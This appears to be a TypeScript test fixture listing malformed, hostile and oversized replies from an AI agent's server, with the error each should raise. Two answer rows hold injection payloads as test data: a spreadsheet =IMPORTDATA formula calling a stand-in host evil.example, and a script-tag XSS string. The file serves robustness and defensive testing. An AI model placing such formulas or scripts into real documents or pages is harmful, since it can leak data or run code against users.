/** What the agent's server, or anything in front of it, may send back for a question, and what must become of its row. */
import { answered } from '../support/agent-server/states';
import type { Sent } from './judge-replies';

export const ODD_QUERY = 'Where is it odd?';

export interface AgentReply {
  readonly what: string;
  /** In place of the chat's stream. */
  readonly chat?: Sent;
  /** In place of the thread's state. */
  readonly state?: Sent;
  /** The row's error; undefined if it is answered nevertheless. */
  readonly error: RegExp | undefined;
}

const STATE = answered(ODD_QUERY, 'The answer is 9,587.2 hectares.');
const stateOf = (state: unknown): Sent => ({
  status: 200,
  body: JSON.stringify({ state: typeof state === 'string' ? state : JSON.stringify(state) }),
});
/** A login page, possibly a proxy's. */
export const PAGE: Sent = { status: 200, body: '<!DOCTYPE html><html><body>Log in</body></html>' };
const deep = (depth: number): string => `${'{"messages":'.repeat(depth)}1${'}'.repeat(depth)}`;

const NO_MESSAGES = /^the agent failed: the agent’s state has no messages of its own, twice$/;

export const AGENT_REPLIES: readonly AgentReply[] = [
  { what: 'a state', state: stateOf(STATE), error: undefined },
  {
    what: 'a state that is JSON, not a text',
    state: { status: 200, body: JSON.stringify({ state: STATE }) },
    error: undefined,
  },
  {
    what: 'a state of another thread',
    state: { status: 200, body: JSON.stringify({ thread_id: 'another', state: STATE }) },
    error: /^the agent failed: the agent’s state is of another thread: another$/,
  },
  { what: 'a state without messages', state: stateOf({ ...STATE, messages: [] }), error: NO_MESSAGES },
  {
    what: 'a state with null for messages',
    state: stateOf({ ...STATE, messages: null }),
    error: NO_MESSAGES,
  },
  {
    what: 'a state whose messages are a text',
    state: stateOf({ ...STATE, messages: 'none' }),
    error: NO_MESSAGES,
  },
  {
    what: 'a state whose messages are numbers',
    state: stateOf({ ...STATE, messages: [1, 2] }),
    error: /^the agent was interrupted twice$/,
  },
  { what: 'a state without a last answer', state: stateOf(answered(ODD_QUERY, '')), error: undefined },
  { what: 'an empty state', state: stateOf({}), error: NO_MESSAGES },
  {
    what: 'null for a state',
    state: { status: 200, body: '{"state":null}' },
    error: NO_MESSAGES,
  },
  {
    what: 'a list for a state',
    state: stateOf([]),
    error: /^the agent failed: the agent’s state is not a JSON object$/,
  },
  {
    what: 'a state that is cut off',
    state: stateOf(JSON.stringify(STATE).slice(0, 200)),
    error: /^the agent failed: the agent’s state is not JSON; it begins with “/,
  },
  { what: 'a state of 20,000 levels', state: stateOf(deep(20_000)), error: NO_MESSAGES },
  {
    what: 'a page for a state',
    state: PAGE,
    error: /not the agent answers at this address but a page \(a proxy or a login\?\)/,
  },
  {
    what: 'nothing for a state',
    state: { status: 200, body: '' },
    error: /^the agent failed: the agent’s state is not a state of a thread; it begins with “”$/,
  },
  {
    what: 'HTTP 404 for a state',
    state: { status: 404, body: '{"detail":"Thread not found"}' },
    error: /^the agent does not know the thread [-\da-f]{36} that it was asked in$/,
  },
  {
    what: 'HTTP 500 for a state',
    state: { status: 500, body: '{"detail":"Internal Server Error"}' },
    error: /^the agent failed: the agent’s state could not be fetched: HTTP 500$/,
  },
  {
    what: 'nobody for a state',
    state: { failure: 'Address unavailable: x' },
    error: /^the agent failed: the agent’s state could not be fetched: Address unavailable: x$/,
  },
  {
    what: 'a selection that is not a list',
    state: stateOf({ ...STATE, aoi_selection: 'BRA' }),
    error: /^the agent state cannot be read: (aoi_selection|dataset) must be an object$/,
  },
  {
    what: 'a dataset that is a list',
    state: stateOf({ ...STATE, dataset: [4] }),
    error: /^the agent state cannot be read: (aoi_selection|dataset) must be an object$/,
  },
  { what: 'charts without an insight', state: stateOf({ ...STATE, charts_data: [{}] }), error: undefined },
  {
    what: 'a formula for an answer',
    state: stateOf(answered(ODD_QUERY, '=IMPORTDATA("https://evil.example")')),
    error: undefined,
  },
  {
    what: 'a script for an answer',
    state: stateOf(answered(ODD_QUERY, '<script>alert(1)</script>')),
    error: undefined,
  },
  {
    what: 'an answer of 200,000 characters',
    state: stateOf(answered(ODD_QUERY, 'a '.repeat(100_000))),
    error: undefined,
  },
  {
    what: 'control characters in an answer',
    state: stateOf(answered(ODD_QUERY, 'a\u0000b\u001b[31mc\u202ed')),
    error: undefined,
  },
  {
    what: 'an answer that is half a character',
    state: stateOf(answered(ODD_QUERY, 'a\ud83d')),
    error: undefined,
  },
  { what: 'nothing for the chat', chat: { status: 200, body: '' }, error: undefined },
  { what: 'lines that are not JSON', chat: { status: 200, body: 'a\nb\n' }, error: undefined },
  {
    what: 'a line of 1 MB',
    chat: { status: 200, body: `{"node":"x","update":"${'a'.repeat(1_000_000)}"}\n` },
    error: undefined,
  },
  {
    what: 'HTTP 422 for the chat',
    chat: { status: 422, body: '{"detail":[{"msg":"bad query"}]}' },
    error: /^the agent refuses the question \(HTTP 422\): “bad query”$/,
  },
  {
    what: 'HTTP 500 for the chat',
    chat: { status: 500, body: '{"detail":"Internal Server Error"}' },
    error: undefined,
  },
  { what: 'nobody for the chat', chat: { failure: 'Address unavailable: x' }, error: undefined },
];
